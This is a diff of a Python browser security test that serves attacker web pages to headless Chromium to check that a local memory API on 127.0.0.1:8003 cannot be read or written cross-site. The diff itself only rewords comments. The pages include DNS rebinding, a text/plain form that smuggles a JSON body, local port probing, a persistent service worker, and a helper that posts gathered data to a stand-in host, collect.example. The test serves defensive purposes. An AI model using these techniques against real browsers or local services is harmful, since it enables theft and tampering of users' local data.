@@ -1,11 +1,12 @@
 #!/usr/bin/env python3
 """Promise: a web page in a browser on this machine can neither write to the memory nor read it.
 
-A real Chromium visits pages of an attacker's web server, whose names a DNS server of this test answers: forms, fetch without CORS, beacons,
-frames, and DNS rebinding, where the attacker's own name leads to 127.0.0.1 after the page has been loaded. And a page of a
-program that had the API's own address before it, which leaves a service worker in the browser.
+A real Chromium visits pages of an attacker's web server, with a DNS server of this test: forms, fetch without CORS, beacons, frames, and
+DNS rebinding, where the attacker's name leads to 127.0.0.1 after the page has been loaded. It also visits a page of a program that had
+the API's address earlier, and leaves a service worker in the browser.
 
-usage: browser.py CHROMIUM     as root, where 127.0.0.1:8003 is the API and nothing else matters; /etc/resolv.conf must name 127.0.0.1
+usage: browser.py CHROMIUM     runs as root, with the API on 127.0.0.1:8003, in a machine without valuable data; /etc/resolv.conf must
+name 127.0.0.1
 """
 
 import http.client
@@ -24,10 +25,10 @@ from contextlib import closing
 API = ("127.0.0.1", 8003)
 # The ports of Prometheus and its exporter in docker-compose.yml.
 METRICS = (6668, 6669)
-# Where the attacker's server is before the name is rebound, and the program that has the API's address while NEXUS does not: the API has
-# only 127.0.0.1 of this port.
+# The address of the attacker's server before the rebinding, and of the program that has the API's address before NEXUS. The API has
+# this port only on 127.0.0.1.
 BEFORE = "127.0.0.66"
-# To a browser with this flag that program is at the API's address.
+# With this flag the browser finds that program at the API's address.
 WITHOUT_NEXUS = f"--host-resolver-rules=MAP 127.0.0.1:8003 {BEFORE}:8003"
 RECENT = "/memory/episodic/recent"
 COLLECT = "http://collect.example:9666"
@@ -39,7 +40,7 @@ rebound = threading.Event()
 
 
 class Names(socketserver.BaseRequestHandler):
-    """DNS: every name is 127.0.0.1; rebind.example is the attacker's own address until it is rebound. Nothing may be kept."""
+    """A DNS server: every name is 127.0.0.1, but rebind.example is the attacker's address until the rebinding. The TTL is 0."""
 
     def handle(self):
         query, sock = self.request
@@ -55,7 +56,7 @@ class Names(socketserver.BaseRequestHandler):
 
 
 class Attacker(http.server.BaseHTTPRequestHandler):
-    """The pages, and what they report."""
+    """Serves the pages, and collects their reports."""
 
     def do_GET(self):
         path = self.path.partition("?")[0]
@@ -81,7 +82,7 @@ class Attacker(http.server.BaseHTTPRequestHandler):
 
 SAY = f"const say = what => fetch('{COLLECT}/', {{method: 'POST', mode: 'no-cors', body: JSON.stringify(what)}});"
 TARGET = "http://127.0.0.1:8003"
-# A form of type text/plain sends name=value: with the name ending inside a string of the JSON, the whole is JSON.
+# A form of type text/plain sends name=value. The name ends inside a JSON string, so the whole body is JSON.
 FORM_NAME = NOTE[:-2] + ',"x":"'
 PAGES = {
     "/write": f"""<!doctype html><meta charset=utf-8>
@@ -107,7 +108,7 @@ addEventListener('load', async () => {{
 </script>""",
     "/frame": f"""<!doctype html><meta charset=utf-8><iframe src="{TARGET}/"></iframe>
 <script>{SAY} addEventListener('load', () => say({{page: 'frame', frames: frames.length}}));</script>""",
-    # Every way by which a page can have its browser connect to a port; each of these names is 127.0.0.1.
+    # Every way in which a page can make its browser connect to a port; each of these names is 127.0.0.1.
     "/metrics": f"""<!doctype html><meta charset=utf-8><body><script>{SAY}
 const ports = {list(METRICS)}, names = ['127.0.0.1', 'localhost', 'evil.example'], done = {{}};
 (async () => {{
@@ -140,10 +141,10 @@ const ports = {list(METRICS)}, names = ['127.0.0.1', 'localhost', 'evil.example'
     await new Promise(done => setTimeout(done, 100));
   }}
 }})();</script>""",
-    # At the API's address: a service worker, which gets every later visit.
+    # A service worker at the API's address, which intercepts every later visit.
     "/before": f"""<!doctype html><meta charset=utf-8><script>{SAY}
 navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => say({{page: 'before'}}));</script>""",
-    # Each way by which a worker can read what the owner opens by hand, or a page that it shows in its place can ask.
+    # Every way in which a worker can read what the owner opens, or a page that it shows instead can send requests.
     "/worker.js": f"""{SAY}
 const text = answer => answer.then(answer => answer.text(), String);
 const asks = async () => {{
@@ -186,7 +187,7 @@ def ask(method, path, body=None):
 
 
 def refused():
-    """So many requests the API has answered with 403."""
+    """Returns the number of requests that the API has answered with 403."""
     return sum(int(line.split()[-1]) for line in ask("GET", "/metrics")[1].splitlines() if 'status="403"' in line)
 
 
@@ -196,15 +197,15 @@ def serve(server):
 
 
 def command(chromium, profile, *more):
-    """A browser without a window, and its profile."""
+    """Returns the command of a headless browser with this profile."""
     return [chromium, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking", "--disable-component-update",
             "--disable-sync", "--disable-dev-shm-usage", "--disable-popup-blocking", f"--user-data-dir={profile}",
-            # What Chromium itself keeps from loopback is not what is tested, and other browsers have not got it.
+            # Switches off Chromium's own protection of loopback addresses, which other browsers lack.
             "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,AsyncDns", *more]
 
 
 class Visit:
-    """A browser at a page, until what it is to report has come. In a profile that is given it keeps what a browser keeps."""
+    """A browser at a page, until the page has reported. With a given profile, the browser keeps its state."""
 
     def __init__(self, chromium, url, *more, profile=None):
         self.own = tempfile.TemporaryDirectory(prefix="browser-", ignore_cleanup_errors=True)
@@ -232,7 +233,7 @@ def no_page_writes(chromium):
         done = visit.reported("write")["done"]
     expect(done["read"] == "refused" and done["cors"] == "refused", f"a page read an answer: {done}")
     expect(MARK not in ask("GET", "/memory/export")[1], "a page of another site stored an episode")
-    # Text, Blob, beacon, form and JSON to /memory/action; form and lines to /memory/import; clear; read: all of them have come.
+    # Text, Blob, beacon, form and JSON to /memory/action; form and lines to /memory/import; clear; read: all must have arrived.
     expect(refused() >= before + 9, f"of the attack only {refused() - before} requests came: {done}")
     items = json.loads(ask("GET", "/memory/working/items")[1])
     expect("kept" in json.dumps(items), f"a page of another site cleared the working memory: {items}")
@@ -281,7 +282,7 @@ def the_owner_sees_that_it_runs(chromium):
 
 
 class Metrics(http.server.ThreadingHTTPServer):
-    """Stands where Prometheus does, and counts who comes."""
+    """Takes the place of Prometheus, and counts connections."""
 
     came = 0
 
